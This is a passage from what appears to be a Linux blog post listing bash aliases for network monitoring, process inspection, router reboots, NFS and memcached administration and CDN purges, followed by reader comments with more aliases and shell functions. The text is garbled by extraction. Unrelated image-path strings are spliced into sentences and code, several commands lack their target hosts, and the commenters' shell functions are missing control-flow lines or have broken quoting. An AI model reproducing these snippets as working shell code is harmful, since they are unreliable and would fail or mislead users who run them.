vnstat is console-based network traffic monitor. dnstop is console tool to analyze DNS traffic. tcptrack and iftop commands displays information about TCP/UDP connections it sees on a network interface and display bandwidth usage on an interface by host respectively.## All of our servers eth1 is connected to the Internets via vlan / router etc  ##
alias dnstop='dnstop -l 5  eth1'
alias vnstat='vnstat -i eth1'
alias iftop='iftop -i eth1'
alias tcpdump='tcpdump -i eth1'
alias ethtool='ethtool eth1'
# work on wlan0 by default #
# Only useful for laptop as all servers are without wireless interface
alias iwconfig='iwconfig wlan0'

#25: Get system memory, cpu usage, and gpu memory info quickly

## pass options to free ##
alias meminfo='free -m -l -t'
## get top process eating memory
alias psmem='ps auxf | sort -nr -k 4'
alias psmem10='ps auxf | sort -nr -k 4 | head -10'
## get top process eating cpu ##
alias pscpu='ps auxf | sort -nr -k 3'
alias pscpu10='ps auxf | sort -nr -k 3 | head -10'
## Get server cpu info ##
alias cpuinfo='lscpu'
## older system use /proc/cpuinfo ##
##alias cpuinfo='less /proc/cpuinfo' ##
## get GPU ram on desktop / laptop##
alias gpumeminfo='grep -i --color memory /var/log/Xorg.0.log'

#26: Control Home Router

The curl command can be used to reboot Linksys routers.

# Reboot my home Linksys WAG160N / WAG54 / WAG320 / WAG120N Router / Gateway from *nix.
alias rebootlinksys="curl -u 'admin:my-super-password' ''"
# Reboot tomato based Asus NT16 wireless bridge
alias reboottomato="ssh admin@ /sbin/reboot"

#27 Resume wget by default

The GNU Wget is a free utility for non-interactive download of files from the Web. It supports HTTP, HTTPS, and FTP protocols, and it can resume downloads too:

## this one saved by butt so many times ##
alias wget='wget -c'

#28 Use different browser for testing website## this one saved by butt so many times ##
alias ff4='/opt/firefox4/firefox'
alias ff13='/opt/firefox13/firefox'
alias chrome='/opt/google/chrome/chrome'
alias opera='/opt/opera/opera'
#default ff
alias ff=ff13
#my default browser
alias browser=chrome

#29: A note about ssh alias

Do not create ssh alias, instead use ~/.ssh/config OpenSSH SSH client configuration files. It offers more option. An example:

Host server10
  IdentityFile ~/backups/.ssh/id_dsa
  user foobar
  Port 30000
  ForwardX11Trusted yes
  TCPKeepAlive yes

You can now connect to peer1 using the following syntax:
$ ssh server10

#30: It’s your turn to share…## set some other defaults ##
alias df='df -H'
alias du='du -ch'
# top is atop, just like vi is vim
alias top='atop'
## nfsrestart  - must be root  ##
## refresh nfs mount / cache etc for Apache ##
alias nfsrestart='sync && sleep 2 && /etc/init.d/httpd stop && umount netapp2:/exports/http && sleep 2 && mount -o rw,sync,rsize=32768,wsize=32768,intr,hard,proto=tcp,fsc natapp2:/exports /http/var/www/html &&  /etc/init.d/httpd start'
## Memcached server status  ##
alias mcdstats='/usr/bin/memcached-tool stats'
alias mcdshow='/usr/bin/memcached-tool display'
## quickly flush out memcached server ##
alias flushmcd='echo "flush_all" | nc 11211'
## Remove assets quickly from Akamai / Amazon cdn ##
alias cdndel='/home/scripts/admin/cdn/purge_cdn_cache --profile akamai'
alias amzcdndel='/home/scripts/admin/cdn/purge_cdn_cache --profile amazon'
## supply list of urls via file or stdin
alias cdnmdel='/home/scripts/admin/cdn/purge_cdn_cache --profile akamai --stdin'
alias amzcdnmdel='/home/scripts/admin/cdn/purge_cdn_cache --profile amazon --stdin'


This post summarizes several types of uses for *nix bash aliases:

  1. Setting default options for a command (e.g. set eth0 as default option for ethtool command via alias ethtool='ethtool eth0' ).
  2. Correctingtypos (cd.. will act as cd .. via alias cd..='cd ..').
  3. Reducing the amount of typing.
  4. Setting the default path of a command that exists in several versions on a system (e.g. GNU/grep is located at /usr/local/bin/grep and Unix grep is located at /bin/grep. To use GNU grep use alias grep='/usr/local/bin/grep' ).
  5. Adding the safety nets to Unix by making commands interactive by setting default options. (e.g. rm, mv, and other commands).
  6. Compatibility by creating commands for older operating systems such as MS-DOS or other Unix like operating systems (e.g. alias del=rm ).

I’ve shared my aliases that I used over the years to reduce the need for repetitive command line typing. If you know and use any other bash/ksh/csh aliases that can reduce typing, share below in thecomments.


I hope you enjoyed my collection of bash shell aliases. See

 Get the latest tutorials on Linux, Open Source & DevOps via RSS feed or Weekly email newsletter.

 188 comments so far... add one
CategoryList of Unix and Linux commands
Disk space analyzersdf ncdu pydf
File Managementcat tree
FirewallAlpine Awall CentOS 8 OpenSUSE RHEL 8 Ubuntu 16.04 Ubuntu 18.04 Ubuntu 20.04
Network UtilitiesNetHogs dig host ip nmap
OpenVPNCentOS 7 CentOS 8 Debian 10 Debian 8/9 Ubuntu 18.04 Ubuntu 20.04
Package Managerapk apt
Processes Managementbg chroot cron disown fg jobs killall kill pidof pstree pwdx time
Searchinggrep whereis which
User Informationgroups id lastcomm last lid/libuser-lid logname members users whoami who w
WireGuard VPNAlpine CentOS 8 Debian 10 Firewall Ubuntu 20.04
188 comments… add one• mchris Jun 11, 2012 @ 6:37

    Nice list; found a couple new things I never thought of. To return the favor; my addon..

    A nice shell is key in bash imo; I color code my next line based on previous commands return code..

        prevCmd=$(prevCmd $RTN)
        if [ $1 == 0 ] ; then
            echo $GREEN
            echo $RED
    if [ $(tput colors) -gt 0 ] ; then
        RED=$(tput setaf 1)
        GREEN=$(tput setaf 2)
        RST=$(tput op)
    export PS1="[e[36m]u.h.W[e[0m][$prevCmd]>[$RST]"

    And I liked your .{1,2,3,4} mapping; how I integrated it…for i in 1 2 3 4
        alias $baseName="cd ${dotSlash}"

    And two random quick short ones..

    #progress bar on file copy. Useful evenlocal.
    alias cpProgress="rsync --progress -ravz"
    #I find it useful when emailing blurbs to people and want to illustrate long timeout in one pass.
    alias ping="time ping"
    • Scott Rowley Mar 22, 2013 @ 14:15

      The following is my version of the “up function” I came up with this morning:

      # Functions
      up () {
              while [[ $COUNTER -gt 0 ]]
                COUNTER=$(( $COUNTER -1 ))
              echo "cd $UP"
              cd $UP
  • linuxnetzer Jun 11, 2012 @ 6:45

    Show text file without comment (#) lines (Nice alias for /etc files which have tons of comments like /etc/squid.conf)

    alias nocomment='grep -Ev '''^(#|$)''''

    Usage e.g.:

    nocomment /etc/squid.conf
  •  nixCraft Jun 11, 2012 @ 6:58@linuxnetzer, nocommand is nice to dump squid, httpd and many others configfiles.

    @mchris, I liked cp alias that can show progress.

    Appreciate your comments.

  • Tom Ryder Jun 11, 2012 @ 6:58

    Ctrl+L is also a nice quick way to clear the terminal.

  • TooManySecrets Jun 11, 2012 @ 7:32This isn’t an alias, but for clear screen is very handy the CTRL+L xDD

    Have a nice day 😉

  • Sean Jun 11, 2012 @ 8:01

    One that I find useful is:

    alias du1='du -d 1'
  • Sergio Luiz Araujo Silva Jun 11, 2012 @ 10:12

    apt-get with limit

    alias apt-get="apt-get -o Acquire::http::Dl-Limit=15"

    To open last edited file

    alias lvim="vim -c "normal '0""
    • Tales Teixeira Jan 11, 2013 @ 1:55

      Try !vim

  • Sdaiy Jun 11, 2012 @ 12:34

    Nice list. Never knew about some of these aliases and commands.

  • satish Jun 11, 2012 @ 13:23

    good list, an alias I use commonlyll “ls -l”

  • oll Jun 11, 2012 @ 14:31

    Nice tricks.
    But be careful with some aliases (typically the #7 mount), since you won’t be able to use them directly when you pass arguments .

    [root@myhost ~]# alias mount=’mount |column -t’
    [root@myhost ~]# mount myserver:/share /mnt
    column: myserver:/share: No such file or directory

    It’s better to use scripts whith these kinds of commands

    • Fumando_Espero Jan 8, 2013 @ 14:32

      You are very right in your appreciation. An alias is a “dumb” substitution in that it doesn’t interpret arguments.

    • booczczu May 10, 2013 @ 15:19

      Do it this way:

      alias mountt=’mount |column -t’

      (note the double “t”) and than you can use the original mount command to do its job.

  • mchris Jun 11, 2012 @ 14:47

    In reply to comment of “Reopen last edited file in vim”, alternative recommendation that will be more portable to other uses…Can also use history here; if you edited /etc/host 4 files ago; you can just type host and you’re good to go. Works with all commands; I use it constantly.

    (Also, is also incredibly useful. Also accepts direct place in previous commands)

  • Rob Jun 11, 2012 @15:05

    Don’t forget… sl=”ls”. Though Steam Locomotive is funny for a while, this is always the easier solution.

  •  nixCraft Jun 11, 2012 @ 16:49


    mount myserver:/share /mnt

    And you are done with it. No need to write scripts.

  • esritter Jun 11, 2012 @ 17:22

    My bashrc has been with me for over a decade. I love to tinker and modify it a bunch, so I’ve added an alias I borrowed/stole/ganked from someone ages ago:

    alias='$EDITOR ~/.bashrc ; source ~/.bashrc'
    • mikaere66 Apr 1, 2013 @ 19:17

      Hi esritter … I’m relatively new to Linux, so I don’t understand your alias. Can you please explain?

      • danneu Apr 10, 2013 @ 6:45

        A more explicit version of that alias (that I use) would look like:

        alias bashrc="vim ~/.bashrc && source ~/.bashrcBasically, it runs `source` for you once you save&exit the file. `source` picks up changes in the file.

      • jkirchartz Jun 3, 2013 @ 17:45

        this will open ~/.bashrc in your $EDITOR (which should be set to vim/emacs something) then re-load the ~/.bashrc so your tweaks are available immediately.

